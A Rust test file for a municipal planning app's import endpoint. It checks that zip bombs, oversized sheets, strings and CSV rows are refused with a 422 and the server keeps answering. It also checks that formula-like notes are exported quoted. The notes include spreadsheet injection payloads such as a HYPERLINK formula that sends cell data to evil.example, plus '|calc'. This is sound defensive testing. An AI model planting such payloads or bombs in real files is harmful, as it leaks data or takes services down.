//! Hostile and oversized import files: each is refused with a 422 naming the bound it broke, the
//! server keeps answering, row-error reports stay small, and CSV text that a spreadsheet program
//! would run as a formula is exported quoted and read back as written.

use std::io::Write;

use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, TestUser, assert_problem, json, spawn_app};
use crate::on_both_backends;

on_both_backends!(
    hostile_files_are_refused_naming_the_limit_and_the_server_keeps_answering,
    row_error_reports_list_the_first_hundred_and_count_all,
    formula_like_text_is_exported_quoted_and_reads_back_unchanged,
    an_import_applies_every_row_in_one_go,
);

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

struct Fixture {
    plan: i64,
    department: TestUser,
    /// Count indicators (baseline 100 → target 200 in FY2022) of the department's measure.
    indicators: Vec<i64>,
}

async fn ok(response: reqwest::Response) -> Value {
    let status = response.status();
    let body = json(response).await;
    assert!(status.is_success(), "{status}: {body}");
    body
}

async fn fixture(app: &TestApp, indicator_count: usize) -> Fixture {
    let department = app.department_user("dept-import", "情報政策課");
    let plan = ok(app
        .post(
            "/plans",
            &app.hq,
            &json!({"municipality_id": app.municipality_id, "code": "import-limits", "name": "取込テスト計画",
                "start_fiscal_year": 2020, "end_fiscal_year": 2022, "baseline_fiscal_year": 2019, "status": "active"}),
        )
        .await)
    .await["id"]
        .as_i64()
        .unwrap();
    let goal = ok(app.post(&format!("/plans/{plan}/goals"), &app.hq, &json!({"number": 1, "name": "目標"})).await)
        .await["id"]
        .clone();
    let measure = ok(app
        .post(
            &format!("/plans/{plan}/measures"),
            &app.hq,
            &json!({"number": 1, "name": "施策", "main_goal_id": goal, "review_category": "continued",
                "owner_department_ids": [department.department_id.unwrap()]}),
        )
        .await)
    .await["id"]
        .as_i64()
        .unwrap();
    let mut indicators = Vec::new();
    for number in 1..=indicator_count {
        let body = json!({"number": number, "name": format!("指標{number}"), "kind": "count", "direction": "increase",
            "baseline": {"fiscal_year": 2019, "value": 100},
            "target": {"value": 200, "target_fiscal_year": 2022, "effective_from_fiscal_year": 2020, "reason": "当初計画"}});
        let created = ok(app.post(&format!("/measures/{measure}/indicators"), &app.hq, &body).await).await;
        indicators.push(created["id"].as_i64().unwrap());
    }
    Fixture { plan, department, indicators }
}

async fn upload(app: &TestApp, f: &Fixture, content_type: &str, body: Vec<u8>, dry_run: bool) -> reqwest::Response {
    app.client
        .post(app.api(&format!("/plans/{}/actuals/import?dry_run={dry_run}", f.plan)))
        .bearer_auth(&f.department.token)
        .header("Content-Type", content_type)
        .body(body)
        .send()
        .await
        .expect("request")
}

/// Writes one zip entry's content (streamed, so a huge entry costs no memory).
type EntryWriter<'a> = dyn Fn(&mut dyn Write) + 'a;

/// A one-sheet workbook whose sheet (and shared strings, when given) are streamed into the zip.
fn workbook(sheet: &[u8], shared_strings: Option<&EntryWriter<'_>>) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(true);
    let parts: [(&str, &[u8]); 4] = [
        (
            "_rels/.rels",
            br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            br#"<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#,
        ),
        ("xl/worksheets/sheet1.xml", sheet),
    ];
    for (name, content) in parts {
        zip.start_file(name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    if let Some(write) = shared_strings {
        zip.start_file("xl/sharedStrings.xml", options).unwrap();
        write(&mut zip);
    }
    zip.finish().unwrap().into_inner()
}

const HEADER_ROW: &str = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>指標ID</t></is></c><c r="B1" t="inlineStr"><is><t>年度</t></is></c><c r="C1" t="inlineStr"><is><t>実績</t></is></c></row>"#;

fn sheet(rows: &str) -> Vec<u8> {
    format!("<worksheet><sheetData>{rows}</sheetData></worksheet>").into_bytes()
}

fn repeated(out: &mut dyn Write, byte: u8, megabytes: usize) {
    let chunk = vec![byte; 1 << 20];
    for _ in 0..megabytes {
        out.write_all(&chunk).unwrap();
    }
}

async fn hostile_files_are_refused_naming_the_limit_and_the_server_keeps_answering(backend: Backend) {
    let app = spawn_app(backend).await;
    let f = fixture(&app, 1).await;
    let far_corner =
        workbook(&sheet(&format!(r#"{HEADER_ROW}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#)), None);
    let far_column = workbook(&sheet(&format!(r#"{HEADER_ROW}<row r="2"><c r="XFD2"><v>1</v></c></row>"#)), None);
    let whole_sheet =
        workbook(&sheet(&format!(r#"{HEADER_ROW}<row r="1048576"><c r="Z1048576"><v>1</v></c></row>"#)), None);
    let bomb = {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default().compression_level(Some(1)).large_file(true);
        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
        repeated(&mut zip, b'a', 300);
        zip.finish().unwrap().into_inner()
    };
    let huge_string = workbook(
        &sheet(&format!(r#"{HEADER_ROW}<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#)),
        Some(&|out: &mut dyn Write| {
            out.write_all(b"<sst><si><t>").unwrap();
            repeated(out, b'x', 50);
            out.write_all(b"</t></si></sst>").unwrap();
        }),
    );
    let mut too_many_rows = String::from("指標ID,年度,実績\r\n");
    for row in 0..=100_000 {
        too_many_rows.push_str(&format!("{},2021,{row}\r\n", f.indicators[0]));
    }
    let huge_field = format!("指標ID,年度,実績,備考\r\n{},2021,1,{}\r\n", f.indicators[0], "x".repeat(3_000_000));
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("a far corner cell", XLSX, far_corner, "more than 100000 rows after the header"),
        ("a far column", XLSX, far_column, "at most 64 columns"),
        ("a sheet to row 1048576", XLSX, whole_sheet, "more than 100000 rows after the header"),
        ("a zip bomb", XLSX, bomb, "bytes inflated"),
        ("a 50 MB shared string", XLSX, huge_string, "more than 262144 bytes"),
        ("100 001 CSV rows", "text/csv", too_many_rows.into_bytes(), "more than 100000 rows after the header"),
        ("a 3 MB CSV field", "text/csv", huge_field.into_bytes(), "longer than 2000 characters"),
    ];
    for (case, content_type, body, limit) in cases {
        assert!(body.len() < 4 * 1024 * 1024, "{case}: {} bytes, over the upload limit", body.len());
        let started = std::time::Instant::now();
        let problem = assert_problem(upload(&app, &f, content_type, body, true).await, 422).await;
        let message = problem["errors"][0]["message"].as_str().unwrap_or_default();
        assert_eq!(problem["errors"][0]["field"], "file", "{case}: {problem}");
        assert!(message.contains(limit), "{case}: {message}");
        assert!(problem.to_string().len() < 4096, "{case}: the problem stays small");
        let health = app.client.get(app.url("/healthz")).send().await.expect("the server still answers");
        assert_eq!(health.status(), 200, "{case} after {:?}", started.elapsed());
    }
    // And a good file still imports.
    let good = format!("指標ID,年度,実績\r\n{},2021,150\r\n", f.indicators[0]);
    assert_eq!(ok(upload(&app, &f, "text/csv", good.into_bytes(), false).await).await["applied"], true);
}

async fn row_error_reports_list_the_first_hundred_and_count_all(backend: Backend) {
    let app = spawn_app(backend).await;
    let f = fixture(&app, 1).await;
    let mut csv = String::from("指標ID,年度,実績\r\n");
    for row in 0..10_000 {
        csv.push_str(&format!("{},2021,{}\r\n", f.indicators[0] + 1000 + row, "n".repeat(250)));
    }
    let response = upload(&app, &f, "text/csv", csv.into_bytes(), true).await;
    let body = response.bytes().await.unwrap();
    assert!(body.len() < 128 * 1024, "a report of 10 000 errors is {} bytes", body.len());
    let problem: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(problem["status"], 422);
    assert_eq!(problem["report"]["error_count"], 10_000);
    let errors = problem["report"]["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 100);
    assert_eq!(errors[0]["row"], 2);
    assert_eq!(errors[99]["row"], 101);
    assert_eq!(problem["errors"].as_array().unwrap().len(), 100);
    assert!(
        problem["detail"].as_str().unwrap().starts_with("10000 row error(s) (the first 100 are listed)"),
        "{problem}"
    );
    let reason = errors[0]["reason"].as_str().unwrap();
    assert!(reason.chars().count() < 250 && reason.contains('…'), "echoed cell content is cut: {reason}");
}

async fn formula_like_text_is_exported_quoted_and_reads_back_unchanged(backend: Backend) {
    let app = spawn_app(backend).await;
    let f = fixture(&app, 10).await;
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1",
        "-x",
        "@x",
        "\tx",
        "＝1+1",
        "\u{200B}=1+1",
        " \u{FEFF}＠x",
        "|calc",
        "普通の備考",
    ];
    let last = notes.len() - 1;
    // Notes go in through an import: the API trims a note, a file keeps it exactly (a leading tab).
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(["指標ID", "年度", "実績", "備考"]).unwrap();
    for (indicator, note) in f.indicators.iter().zip(notes) {
        // The last one reports 50 against a baseline of 100: progress −50.0, a negative number.
        let value = if note == "普通の備考" { "50" } else { "150" };
        writer.write_record([indicator.to_string().as_str(), "2021", value, note]).unwrap();
    }
    let created = ok(upload(&app, &f, "text/csv", writer.into_inner().unwrap(), false).await).await;
    assert_eq!(created["counts"]["create"], 10, "{created}");
    for indicator in &f.indicators {
        let review = json!({"action": "approve"});
        ok(app.post(&format!("/indicators/{indicator}/actuals/2021/review"), &app.hq, &review).await).await;
    }
    let export = |format: &'static str| {
        let url = app.api(&format!("/plans/{}/evaluation?fiscal_year=2021&format={format}", f.plan));
        let request = app.client.get(url).bearer_auth(&f.department.token);
        async move { request.send().await.unwrap().bytes().await.unwrap().to_vec() }
    };
    let csv_bytes = export("csv").await;
    let mut reader = csv::Reader::from_reader(&csv_bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let note_of = |indicator: i64| {
        let record = records.iter().find(|r| r[column("指標ID")] == indicator.to_string()).unwrap();
        (record[column("備考")].to_owned(), record[column("進捗率(%)")].to_owned())
    };
    for (indicator, note) in f.indicators.iter().zip(notes).take(last) {
        assert_eq!(note_of(*indicator).0, format!("'{note}"), "a formula-like note is quoted");
    }
    assert_eq!(note_of(f.indicators[last]), ("普通の備考".to_owned(), "-50.0".to_owned()), "numbers stay numbers");

    for (content_type, file) in [("text/csv", csv_bytes), (XLSX, export("xlsx").await)] {
        let report = ok(upload(&app, &f, content_type, file, false).await).await;
        assert_eq!(report["counts"], json!({"create": 0, "correct": 0, "unchanged": 10}), "{content_type}: {report}");
    }
    for (indicator, note) in f.indicators.iter().zip(notes) {
        let stored = ok(app.get(&format!("/indicators/{indicator}/actuals/2021"), &app.hq).await).await;
        assert_eq!(stored["note"], note);
        assert_eq!(stored["version"], 2, "read back unchanged: no new version");
    }
}

async fn an_import_applies_every_row_in_one_go(backend: Backend) {
    let app = spawn_app(backend).await;
    let f = fixture(&app, 40).await;
    let mut csv = String::from("指標ID,年度,実績,備考\r\n");
    for (i, indicator) in f.indicators.iter().enumerate() {
        for year in [2020, 2021] {
            csv.push_str(&format!("{indicator},{year},{},取込{i}\r\n", 100 + i));
        }
    }
    let report = ok(upload(&app, &f, "text/csv", csv.clone().into_bytes(), false).await).await;
    assert_eq!(report["applied"], true);
    assert_eq!(report["counts"]["create"], 80);
    assert_eq!(report["rows"].as_array().unwrap().len(), 80);
    let stored = ok(app.get(&format!("/indicators/{}/actuals/2021", f.indicators[39]), &app.hq).await).await;
    assert_eq!(
        (stored["value"].clone(), stored["note"].clone(), stored["version"].clone()),
        (json!(139), json!("取込39"), json!(1))
    );
    let history = ok(app.get(&format!("/indicators/{}/actuals/2020/history", f.indicators[0]), &app.hq).await).await;
    let events: Vec<&str> = history["items"].as_array().unwrap().iter().map(|e| e["event"].as_str().unwrap()).collect();
    assert_eq!(events, vec!["submitted"]);
    let audit = ok(app.get("/audit?entity_type=actual&limit=500", &app.hq).await).await;
    assert_eq!(audit["total"], 80, "one audit entry per actual");

    // Corrections need 版; with it, all rows are corrected in one go, or none.
    let corrected = csv.replace("\r\n", ",1\r\n").replacen("備考,1", "備考,版", 1).replace(",取込", ",訂正");
    let mut stale = corrected.clone();
    stale.push_str(&format!("{},2022,5,,9\r\n", f.indicators[0]));
    let refused = assert_problem(upload(&app, &f, "text/csv", stale.into_bytes(), false).await, 422).await;
    assert_eq!(refused["report"]["error_count"], 1, "{refused}");
    let unchanged = ok(app.get(&format!("/indicators/{}/actuals/2021", f.indicators[0]), &app.hq).await).await;
    assert_eq!(unchanged["note"], "取込0", "a refused import changes nothing");
    let report = ok(upload(&app, &f, "text/csv", corrected.into_bytes(), false).await).await;
    assert_eq!(report["counts"]["correct"], 80);
    let stored = ok(app.get(&format!("/indicators/{}/actuals/2021", f.indicators[0]), &app.hq).await).await;
    assert_eq!((stored["note"].clone(), stored["version"].clone()), (json!("訂正0"), json!(2)));
}
